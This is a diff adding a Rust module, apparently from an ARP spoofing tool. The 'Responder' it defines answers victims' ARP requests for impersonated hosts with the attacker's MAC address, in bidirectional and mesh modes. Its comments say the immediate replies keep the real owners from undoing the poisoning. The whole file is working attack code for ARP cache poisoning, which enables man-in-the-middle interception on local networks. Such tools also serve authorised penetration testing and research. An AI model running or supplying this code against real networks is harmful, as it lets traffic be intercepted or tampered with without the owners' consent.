@@ -0,0 +1,142 @@
+use super::targets::Impersonated;
+use super::Addrs;
+use crate::arp;
+use crate::macmap::MacMap;
+use crate::oui::OuiDb;
+use crate::reply;
+use crate::validators::{
+    DstIpValidator, GratuitousValidator, SrcIpValidator, SrcMacValidator,
+    Validator,
+};
+use pnet::{
+    datalink::DataLinkSender,
+    packet::{arp::ArpPacket, ethernet::EthernetPacket, Packet},
+    util::MacAddr,
+};
+use std::collections::HashSet;
+use std::net::Ipv4Addr;
+use std::sync::RwLock;
+
+/// Answers the ARP requests of the victims for the impersonated hosts (and of
+/// the impersonated hosts for the victims in bidirectional mode) as soon as
+/// they are received, so the replies of the real owners don't undo the
+/// poisoning until the next periodic reply.
+pub struct Responder {
+    validator: RwLock<Validator>,
+    hosts_ips: Option<HashSet<Ipv4Addr>>,
+    mac_map: MacMap,
+    ignored_macs: Vec<MacAddr>,
+    bidirectional: bool,
+    filter: Option<Validator>,
+}
+
+impl Responder {
+    pub fn new(
+        victims_addr: &[Addrs],
+        impersonated: &Impersonated,
+        attacker_mac: MacAddr,
+        ignored_macs: Vec<MacAddr>,
+        bidirectional: bool,
+        filter: Option<Validator>,
+    ) -> Self {
+        let hosts_ips = match impersonated {
+            Impersonated::Hosts(hosts_addr) => {
+                Some(hosts_addr.iter().map(|h| h.ip).collect())
+            }
+            Impersonated::Mesh => None,
+        };
+        let validator = build_validator(
+            victims_addr,
+            hosts_ips.as_ref(),
+            &ignored_macs,
+            bidirectional,
+        );
+        return Self {
+            validator: RwLock::new(validator),
+            hosts_ips,
+            mac_map: MacMap::single(attacker_mac),
+            ignored_macs,
+            bidirectional,
+            filter,
+        };
+    }
+
+    /// Updates the requests to answer when the victims change.
+    pub fn update(&self, victims_addr: &[Addrs]) {
+        let validator = build_validator(
+            victims_addr,
+            self.hosts_ips.as_ref(),
+            &self.ignored_macs,
+            self.bidirectional,
+        );
+        *self.validator.write().unwrap() = validator;
+    }
+
+    pub fn reply(
+        &self,
+        sender: &mut Box<dyn DataLinkSender>,
+        buf: &[u8],
+        oui_db: &OuiDb,
+    ) -> Result<(), String> {
+        if let Some(filter) = &self.filter {
+            if !matches_filter(filter, buf) {
+                return Ok(());
+            }
+        }
+
+        let validator = self.validator.read().unwrap();
+        return reply::reply_request(
+            sender,
+            buf,
+            &validator,
+            &self.mac_map,
+            oui_db,
+        );
+    }
+}
+
+fn matches_filter(filter: &Validator, buf: &[u8]) -> bool {
+    if !arp::is_arp(buf) {
+        return false;
+    }
+    let ether = EthernetPacket::new(buf).unwrap();
+    return match ArpPacket::new(ether.payload()) {
+        Some(arp_msg) => filter.is_valid_arp(&ether, &arp_msg),
+        None => false,
+    };
+}
+
+/// Accepts the requests of the victims for the impersonated hosts, which are
+/// the other victims in mesh mode (`hosts_ips` is None).
+fn build_validator(
+    victims_addr: &[Addrs],
+    hosts_ips: Option<&HashSet<Ipv4Addr>>,
+    ignored_macs: &[MacAddr],
+    bidirectional: bool,
+) -> Validator {
+    let victim_ips: HashSet<_> = victims_addr.iter().map(|v| v.ip).collect();
+
+    let arp_filter = match hosts_ips {
+        Some(hosts_ips) => {
+            let mut arp_filter = SrcIpValidator::new(victim_ips.clone())
+                & DstIpValidator::new(hosts_ips.clone());
+
+            if bidirectional {
+                let hosts_filter = SrcIpValidator::new(hosts_ips.clone())
+                    & DstIpValidator::new(victim_ips);
+                arp_filter = arp_filter | hosts_filter;
+            }
+            arp_filter
+        }
+        None => {
+            SrcIpValidator::new(victim_ips.clone())
+                & DstIpValidator::new(victim_ips)
+        }
+    };
+
+    let ignored_macs = ignored_macs.iter().cloned().collect();
+    return !SrcMacValidator::new(ignored_macs)
+        // a host announcing itself is not asking for other host
+        & !GratuitousValidator::new()
+        & arp_filter;
+}